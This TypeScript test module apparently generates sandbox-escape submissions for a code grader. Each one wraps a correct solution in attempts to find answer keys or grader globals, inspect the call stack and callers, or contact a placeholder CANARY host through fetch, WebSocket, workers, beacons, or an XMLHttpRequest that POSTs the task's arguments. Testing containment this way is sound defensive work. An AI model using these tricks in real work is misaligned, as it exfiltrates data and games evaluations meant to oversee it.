import type { Submission } from '../submission.ts';
import { asked, ending, type Task } from './task.ts';

/**
 * Looks behind the scenes and ways out, in programs that are right otherwise: nothing is found, nothing gets out, and the
 * answer counts, except where the code imports.
 */
export function escapes(task: Task): Submission[] {
  const { name } = task;
  const trying = (code: string) => asked(task, `try { ${code} } catch {}\nreturn solve(...args);`);
  const reaching = (code: string) => trying(`${code}; console.log('ESCAPED');`);
  /** `found` is called with what should not be there. */
  const looking = (code: string) =>
    trying(
      `const found = (thing) => { if (thing !== undefined && thing !== null) console.log('ESCAPED', typeof thing); };\n${code}`,
    );
  return [
    ...ending(
      {
        'looks for another module': trying(
          "import(import.meta.url.replace(/[^/]*$/, '')).then(() => console.log('ESCAPED'), () => {});",
        ),
        'an import': trying("import(CANARY).then(() => console.log('ESCAPED'), () => {});"),
      },
      ['error'],
    ),
    ...ending(
      {
        'looks for tests and solutions by name': looking(
          "for (const name of ['key', 'cases', 'expected', 'tests', 'checks', 'solution', 'answers', 'judge', 'grader', 'grading', 'exported', 'port']) found(globalThis[name]);",
        ),
        'looks at its callers': looking(`found(${name}.caller); found(arguments.callee.caller);`),
        'looks at the stack': looking(
          "Error.prepareStackTrace = (error, frames) => frames;\nconst frames = new Error().stack;\nif (Array.isArray(frames)) for (const frame of frames) { found(frame.getThis?.()); if (!String(frame.getFunction?.() ?? '').startsWith('function')) found(frame.getFunction?.()); }\ndelete Error.prepareStackTrace;",
        ),
        'looks for the source of who calls it': looking(
          "for (const value of Object.values(globalThis)) if (typeof value === 'function' && !/native code|^class |^function solve|^\\(/.test(Function.prototype.toString.call(value))) found(value);",
        ),
        'looks beyond its arguments': looking(
          'found(arguments[args.length]); found(args.expected); found(Object.getPrototypeOf(args).expected);',
        ),
        'looks up inherited globals': looking(
          'for (let scope = globalThis; scope && scope !== Object.prototype; scope = Object.getPrototypeOf(scope)) for (const name of Object.getOwnPropertyNames(scope)) if (/fetch|post|import|navigator|location|cache|index|crypto|self|close|parent|document/i.test(name)) found(scope[name]);',
        ),
        fetch: trying("fetch(CANARY).then(() => console.log('ESCAPED'), () => {});"),
        XMLHttpRequest: reaching(
          'const request = new XMLHttpRequest(); request.open("POST", CANARY, false); request.send(JSON.stringify(args))',
        ),
        WebSocket: reaching('new WebSocket(CANARY.replace("http", "ws"))'),
        EventSource: reaching('new EventSource(CANARY)'),
        WebTransport: reaching('new WebTransport(CANARY.replace("http", "https"))'),
        WebRTC: reaching('new RTCPeerConnection({ iceServers: [{ urls: CANARY.replace("http://", "stun:") }] })'),
        'a beacon': reaching('navigator.sendBeacon(CANARY, "x")'),
        importScripts: reaching('importScripts(CANARY)'),
        'a nested worker': reaching('new Worker(CANARY)'),
        'a worker from a blob': reaching(
          'new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(CANARY) + ")"])))',
        ),
        storage: reaching('indexedDB.open("descent-progress"); localStorage.getItem("x"); caches.open("x")'),
        'a channel': reaching('new BroadcastChannel("descent-progress").postMessage({})'),
        navigation: reaching('location.href = CANARY; open(CANARY)'),
        'code from text': reaching('eval("1"); new Function("return 1")(); (async () => {}).constructor("return 1")()'),
        'code from text in a timer': trying('setTimeout("console.log(\'ESCAPED\')", 0);'),
        'a font or an image': reaching('new FontFace("x", "url(" + CANARY + ")").load(); new Image().src = CANARY'),
      },
      ['pass'],
    ),
  ];
}
